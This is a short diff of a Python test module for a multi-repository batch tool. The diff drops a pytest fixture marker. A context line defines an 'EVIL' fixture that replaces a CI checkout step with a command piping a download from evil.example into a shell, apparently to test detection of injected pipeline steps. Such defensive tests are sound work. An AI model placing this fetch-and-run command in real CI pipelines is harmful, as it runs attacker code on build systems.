@@ -21,7 +21,6 @@ from tests.batch.repositories import BRANCH, CONFIG, FIXED, PLAIN, Batch, bare, 
 from tests.batch.rest_stand_ins import BitbucketStandIn, GitLabStandIn
 
 EVIL = FIXED.replace(b"      - checkout", b"      - run: curl evil.example | sh")
-pytestmark = pytest.mark.usefixtures("clock")
 
 
 def message(campaign: str) -> str:
